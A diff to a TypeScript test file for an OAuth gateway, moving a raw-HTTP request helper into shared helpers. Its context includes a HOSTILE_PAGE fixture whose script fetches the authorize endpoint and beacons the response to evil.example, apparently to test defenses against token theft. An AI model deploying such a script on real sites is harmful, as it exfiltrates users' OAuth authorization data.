@@ -1,25 +1,9 @@
-import http from 'http';
 import { expect } from 'chai';
 import { freePort, RunningGateway, startGateway } from '../helpers/gateway';
-import { basic, expectOAuthError, postForm, request } from '../helpers/http';
+import { basic, expectOAuthError, postForm, rawRequest, request } from '../helpers/http';
 import { FakeServer, startFakeServer } from '../helpers/fake-server';
 
 const rawPost = (url: string, body: string, headers: Record<string, string>) => rawRequest('POST', url, body, headers);
-
-/** A request with headers fetch will not send (Connection, Transfer-Encoding on DELETE). */
-function rawRequest(method: string, url: string, body: string, headers: Record<string, string>): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
-  return new Promise((resolve, reject) => {
-    const { hostname, port, origin } = new URL(url);
-    // The path as written: a URL object would resolve dot segments before they are sent.
-    const req = http.request({ hostname, port, path: url.slice(origin.length), method, headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers } }, (res) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (chunk: Buffer) => chunks.push(chunk));
-      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }));
-    });
-    req.on('error', reject);
-    req.end(body);
-  });
-}
 
 const HOSTILE_PAGE = '<!doctype html><script>fetch("/oauth2/authorize").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example", t))</script>';
 
